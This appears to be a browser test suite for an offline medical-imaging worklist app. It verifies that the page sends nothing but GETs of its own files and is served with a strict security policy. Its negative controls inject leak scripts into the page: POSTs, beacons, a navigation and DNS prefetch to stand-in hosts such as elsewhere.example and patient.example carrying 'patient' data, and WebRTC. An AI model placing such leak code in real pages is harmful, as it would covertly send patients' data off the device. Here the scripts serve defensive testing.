// Nothing leaves the device: a whole job is recorded below the page, and every request in it is a GET
// of a file of the build. The same checker is then shown pages that leak, one by each door.

import assert from "node:assert/strict";
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "node:test";
import { DIST, browse, scratch, serve } from "./harness.mjs";
import { allowed, leaks, recorded } from "./requests.mjs";
import { head } from "./studies.mjs";
import { WorklistPage, keptText } from "./worklist_page.mjs";

test("every feature, one after the other, sends nothing but GETs of the build's own files, and logs nothing", async (t) => {
  const { origin, log } = await serve(t);
  const folder = head(t);
  const logged = [];
  const requests = await recorded(t, origin, async (context) => {
    // What Chromium itself remarks on a machine without a graphics processor is not the page's.
    context.on("console", (message) => message.text() === "No available adapters." || logged.push(message.text()));
    const worklist = await WorklistPage.open(context, origin);
    await worklist.drop(folder);
    const [row] = await worklist.settled(1);
    assert.equal(row.state, "scored");
    for (const feature of [reading, viewing, saving, lists, evidence, keeping, ownAccount(log, origin)]) await feature(worklist);
    await withoutNetwork(context, worklist, origin);
  });
  assert.deepEqual(leaks(requests, allowed(DIST, origin)), []);
  assert.deepEqual(logged, []);

  // Two witnesses: what the server was asked for is what the browser's log holds.
  const asked = log();
  assert.ok(asked.length > 3, "the page is made of several files");
  for (const { method, url, bodyBytes } of asked) {
    assert.deepEqual([method, bodyBytes], ["GET", 0], url);
    assert.ok(requests.some((request) => request.url.split("#")[0] === origin + url), `${url} is missing in the browser's log`);
  }
});

/** What the reader says of a study; identities hidden and shown; the keys; paper. */
async function reading({ page }) {
  const by = (id) => page.getByTestId(id);
  await by("comment").fill("SAMPLE^SYNTHETIC");
  await by("comment").press("Enter");
  await by("urgency").selectOption("high");
  await by("mask").click();
  await by("mask").click();
  await by("filters").locator("summary").click();
  await page.emulateMedia({ media: "print" });
  await page.emulateMedia({ media: "screen" });
}

/** Images, the network's input, the header, the attention map. */
async function viewing({ page }) {
  const by = (id) => page.getByTestId(id);
  await by("view-images").first().click();
  await page.locator(".pane canvas[data-shown]").first().waitFor();
  await page.getByRole("button", { name: "Header" }).click();
  await page.getByText("(0010,0010)").waitFor();
  await by("attention-button").click();
  await by("attention-overlay").first().waitFor({ timeout: 120_000 });
  await by("attention-button").click();
  await page.getByRole("button", { name: "Network's input" }).click();
  await page.locator(".pane canvas[data-shown]").first().waitFor();
}

/** The series on the screen without its patient. */
async function saving({ page }) {
  const by = (id) => page.getByTestId(id);
  await by("deidentify-button").click();
  await by("blank-face").check();
  await Promise.all([page.waitForEvent("download"), by("deidentify-save").click()]);
  await by("close-deidentify").click();
  await by("close-viewer").click();
}

/** The list as files, and back. */
async function lists(worklist) {
  await worklist.panel("exports");
  const save = async (button) => {
    const [download] = await Promise.all([worklist.page.waitForEvent("download"), worklist.by(button).click()]);
    return download.path();
  };
  await save("export-csv");
  await worklist.by("secret").fill("sixteen characters at least");
  await save("export-pooling");
  await worklist.drop(await save("export-json"));
  await worklist.settled(1);
}

/** Forty examinations as a table: who, and one number of each. */
const table = (column, number) => ({
  name: `${column}.csv`,
  mimeType: "text/csv",
  buffer: Buffer.from([`id,${column}`, ...Array.from({ length: 40 }, (_, n) => `A${n},${number(n)}`)].join("\n")),
});

/** Every part of the evidence room, with its fields; an evaluation, and a simulation. */
async function evidence(worklist) {
  await worklist.by("open-evidence").click();
  await worklist.page.locator("#evidence-file-scores").setInputFiles(table("score", (n) => ((7 * n) % 10) / 10));
  await worklist.page.locator("#evidence-file-labels").setInputFiles(table("label", (n) => Number(n % 3 === 0)));
  await worklist.by("ask").click();
  await worklist.by("report").waitFor();
  for (const part of ["Labels from reports", "Over time", "The paper", "Reporting times"]) await worklist.page.getByRole("tab", { name: part }).click();
  await worklist.by("example").click();
  await worklist.by("ask").click();
  await worklist.by("report").waitFor();
  await worklist.page.keyboard.press("Escape");
}

/** What the device offers; the list is kept on it. */
async function keeping(worklist) {
  await worklist.by("diagnosis-button").click();
  await worklist.by("diagnosis-facts").getByText("Browser", { exact: true }).waitFor();
  await worklist.by("close-diagnosis").click();
  await worklist.panel("device-panel");
  await worklist.by("keep").click();
  await worklist.becomes(async () => (await worklist.page.evaluate(keptText)) !== "", true);
}

/** What the page itself says it asked for: all that the server was asked for, and nothing of anybody else's. */
const ownAccount = (log, origin) => async (worklist) => {
  await worklist.page.locator("#kept", { hasText: "Kept on this device" }).waitFor({ timeout: 60_000 });
  await worklist.by("privacy-button").click();
  await worklist.by("kept-page").filter({ hasText: "so that it opens without a network" }).waitFor();
  assert.equal(await worklist.by("requests").getAttribute("data-foreign"), "0");
  const told = await worklist.by("privacy").locator("li code").allTextContents();
  // Helpers ask for their own program, and are asked no more once they have it.
  const missing = log().map(({ url }) => url.slice(1)).filter((path) => path && !told.includes(path) && !/sw\.js$|evidence|crew\.js/.test(path));
  assert.deepEqual(missing, [], `told: ${told.join(" ")}`);
  await worklist.by("close-privacy").click();
};

/** The page comes from the device, scores, and the list that was kept stands again. */
async function withoutNetwork(context, worklist, origin) {
  await context.setOffline(true);
  const again = await WorklistPage.open(context, origin);
  await again.becomes(() => again.by("row").count(), 1);
  await again.by("sample-button").click();
  await again.settled(2);
  await again.panel("device-panel");
  await again.by("forget").click();
  await again.becomes(() => again.by("row").count(), 0);
  await context.setOffline(false);
  assert.deepEqual([worklist.faults, again.faults], [[], []]);
}

const CONTROLS = [
  { door: "a posted byte", script: `fetch("/", { method: "POST", body: "1" });`, caught: /^POST to/ },
  { door: "a query", script: `fetch("/?patient=1");`, caught: /^GET of .*patient/ },
  { door: "a beacon", script: `navigator.sendBeacon("/", "1");`, caught: /^POST to/ },
  { door: "a WebSocket", script: `new WebSocket("ws://" + location.host);`, caught: /^GET of ws:/ },
  { door: "a worker", script: `new Worker("worker.js");`, caught: /^POST to/ },
  { door: "a navigation", script: `location.href = "https://elsewhere.example/?patient=1";`, caught: /^GET of https:\/\/elsewhere/ },
  // Chromium describes the fields of a page to its maker's servers, which fill them in.
  { door: "a text field", script: `document.body.append(document.createElement("input"));`, caught: /autofill/ },
  { door: "a name look-up", script: link("dns-prefetch"), caught: /^name look-up/ },
  { door: "a connection", script: link("preconnect"), caught: /^name look-up/ },
  {
    door: "WebRTC",
    script: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] });
             peer.createDataChannel("leak");
             await peer.setLocalDescription(await peer.createOffer());`,
    caught: /^datagram to 127/,
  },
];

function link(rel) {
  return `document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: "https://patient.example" }));`;
}

for (const { door, script, caught } of CONTROLS) {
  test(`the checker catches a page that leaks by ${door}`, async (t) => {
    const dir = leaking(scratch(t), script);
    const { origin } = await serve(t, dir);
    const requests = await recorded(t, origin, async (context) => {
      const page = await context.newPage();
      await page.goto(origin);
      await page.waitForTimeout(2_000);
    });
    const own = allowed(dir, origin).add(`${origin}/leak.js`).add(`${origin}/worker.js`);
    const found = leaks(requests, own);
    assert.ok(found.length > 0, "the leak was not noticed");
    assert.match(found[0], caught);
  });
}

/** A copy of the page with one script more. */
function leaking(folder, script) {
  cpSync(DIST, folder, { recursive: true });
  const index = readFileSync(join(DIST, "index.html"), "utf8");
  writeFileSync(join(folder, "index.html"), index.replace("</head>", `<script type="module" src="leak.js"></script></head>`));
  writeFileSync(join(folder, "leak.js"), script);
  writeFileSync(join(folder, "worker.js"), `fetch("/", { method: "POST", body: "1" });`);
  return folder;
}

/** Directive by directive. A looser policy, or one directive more, is a decision to be made here too. */
const POLICY = [
  "base-uri 'none'",
  "connect-src 'self'",
  "default-src 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "img-src 'self' blob: data:",
  "manifest-src 'self'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "style-src 'self'",
  "worker-src 'self'",
];

test("the page is served with the headers that hold it to its promise", async (t) => {
  const { origin } = await serve(t);
  const { headers } = await fetch(origin);
  const policy = headers.get("content-security-policy").split(";").map((directive) => directive.trim());
  assert.deepEqual(policy.sort(), POLICY);
  assert.equal(headers.get("cross-origin-opener-policy"), "same-origin");
  assert.equal(headers.get("cross-origin-embedder-policy"), "require-corp");
  assert.equal(headers.get("referrer-policy"), "no-referrer");
  assert.equal(headers.get("x-content-type-options"), "nosniff");
});

test("the browser refuses a request of the page to another origin", async (t) => {
  const [page, elsewhere] = [await serve(t), await serve(t)];
  const context = await browse(t);
  const opened = await context.newPage();
  await opened.goto(page.origin);
  const ask = (url) => opened.evaluate((url) => fetch(url, { mode: "no-cors" }).then(() => "answered", () => "refused"), url);
  assert.equal(await ask(elsewhere.origin), "refused");
  assert.equal(await ask(page.origin), "answered");
  assert.deepEqual(elsewhere.log(), []);
});
